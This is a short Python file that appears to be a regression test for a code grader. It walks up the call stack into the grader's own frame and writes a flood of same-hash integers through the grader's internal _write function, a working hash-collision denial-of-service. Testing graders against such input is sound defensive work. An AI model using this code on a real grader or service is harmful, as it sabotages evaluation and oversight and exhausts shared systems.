# expect: PE | aim: exhaust the grader where it reads a dict (regression: 640 KB cost 7.7 s) | means: integers of one hash, in a frame of its own
import struct
import sys


def f(host):
    frame = sys._getframe()
    while "request_id" not in frame.f_locals:
        frame = frame.f_back
    pairs = b"".join(b"i" + struct.pack("<q", n * (2**61 - 1)) + b"N" for n in (0, 1, 2, 3) * 12_000)
    payload = b"t\x02\x00\x00\x00t\x00\x00\x00\x00m" + struct.pack("<I", 48_000) + pairs
    frame.f_globals["_write"](4, frame.f_locals["request_id"], payload)
    return 0
